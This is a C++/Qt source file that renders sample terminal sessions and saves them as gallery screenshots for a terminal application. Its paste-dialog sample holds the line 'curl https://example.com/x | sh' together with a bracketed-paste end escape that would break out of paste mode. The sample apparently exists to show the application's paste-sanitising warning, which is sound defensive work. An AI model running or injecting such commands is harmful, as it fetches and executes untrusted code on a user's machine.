#include "app/gallery/terminal_shots.h"

#include <QApplication>
#include <QElapsedTimer>

#include <cstdio>

#include "app/terminal/paste_dialog.h"
#include "app/terminal/terminal_tab.h"
#include "app/terminal/terminals_page.h"

namespace leadglass::app::gallery {
namespace {

QByteArray colours() {
    QByteArray out = "\x1b[1manna@desk\x1b[m \x1b[34m~/src/shop\x1b[m $ make test\r\n";
    for (const bool ground : {false, true}) {
        for (int bright = 0; bright < 2; ++bright) {
            for (int i = 0; i < 8; ++i) {
                const int code = (bright == 0 ? 30 : 90) + i + (ground ? 10 : 0);
                out += "\x1b[" + QByteArray::number(code) + "m colour" + QByteArray::number(i) + " \x1b[m";
            }
            out += "\r\n";
        }
    }
    out += "\x1b[1mbold\x1b[m \x1b[3mitalic\x1b[m \x1b[4munderlined\x1b[m \x1b[21mdouble\x1b[m \x1b[7mreverse\x1b[m \x1b[9mstruck\x1b[m \x1b[1;3;4;31mall\x1b[m\r\n";
    for (int i = 16; i < 232; ++i) {
        out += "\x1b[48;5;" + QByteArray::number(i) + "m " + ((i - 16) % 72 == 71 ? "\x1b[m\r\n" : "");
    }
    for (int i = 0; i < 72; ++i) {
        out += "\x1b[48;2;" + QByteArray::number(i * 255 / 71) + ";" + QByteArray::number(255 - i * 255 / 71) + ";160m ";
    }
    return out + "\x1b[m\r\n\xe2\x94\x8c\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80\xe2\x94\xac\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80\xe2\x94\x90\r\n"
                 "\xe2\x94\x82 A \xe2\x94\x82 B \xe2\x94\x82  \xe2\x96\x81\xe2\x96\x82\xe2\x96\x83\xe2\x96\x84\xe2\x96\x85\xe2\x96\x86\xe2\x96\x87\xe2\x96\x88\r\n"
                 "\xe2\x94\x94\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80\xe2\x94\xb4\xe2\x94\x80\xe2\x94\x80\xe2\x94\x80\xe2\x94\x98\r\n$ ";
}

QByteArray wide() {
    return QByteArray("漢字仮名交じり文 | two cells each\r\n한국어 텍스트     | and these\r\ne\xcc\x81 a\xcc\x88 o\xcc\x82 n\xcc\x83      | with a mark each\r\n"
                      "中文 abc 中文    | side by side\r\n") +
           "\r\nThis line is selected, and so is\r\nwhat stands in this one, up to here: not this.\r\n\r\n\x1b[32mok\x1b[m   12 tests\r\n\x1b[31mfail\x1b[m  1 test  \x1b[2msee above\x1b[m\r\n$ ";
}

std::unique_ptr<TerminalsPage> page(const char* name) {
    auto out = std::make_unique<TerminalsPage>();
    out->setObjectName(QLatin1String(name));
    out->resize(out->fontMetrics().averageCharWidth() * 120, out->fontMetrics().height() * 34);
    return out;
}

TerminalTab* add(TerminalsPage& to, const QString& title, const QByteArray& output) {
    auto* tab = new TerminalTab({}, title);
    to.add(tab);
    to.show();
    QApplication::processEvents();
    tab->view().feed(output);
    return tab;
}

} // namespace

std::vector<std::unique_ptr<QWidget>> showTerminals() {
    std::vector<std::unique_ptr<QWidget>> out;
    auto first = page("terminal-colours");
    add(*first, QStringLiteral("codex in ~/src/api & more"), {});
    add(*first, QStringLiteral("claude in ~/src/shop"), colours());
    out.push_back(std::move(first));
    auto second = page("terminal-wide-selected");
    auto* tab = add(*second, QStringLiteral("sh in ~/src/shop"), wide());
    tab->view().select({tab->view().screen().top() + 5, 0}, {tab->view().screen().top() + 6, 36});
    out.push_back(std::move(second));
    auto third = page("terminal-ended");
    add(*third, QStringLiteral("make test in ~/src/shop"), "cc -o test test.c\r\nran 12 tests, 1 failed\r\nmake: *** [test] Error 1\r\n")->showEnd(2 << 8, 0);
    out.push_back(std::move(third));
    auto paste = std::make_unique<PasteDialog>(cleanPaste(QStringLiteral("cd /tmp\ncurl https://example.com/x | sh\x1b[201~\n")), nullptr);
    paste->setObjectName(QStringLiteral("terminal-paste"));
    paste->show();
    out.push_back(std::move(paste));
    return out;
}

bool shootTerminals(const QDir& into) {
    const auto all = showTerminals();
    QElapsedTimer timer;
    timer.start();
    while (timer.elapsed() < 200) {
        QApplication::processEvents(QEventLoop::AllEvents, 20);
    }
    for (const auto& each : all) {
        const QString file = into.filePath(each->objectName() + QStringLiteral(".png"));
        if (!each->grab().save(file)) {
            std::fprintf(stderr, "leadglass-gallery: cannot write '%s'\n", qUtf8Printable(file));
            return false;
        }
    }
    return true;
}

} // namespace leadglass::app::gallery
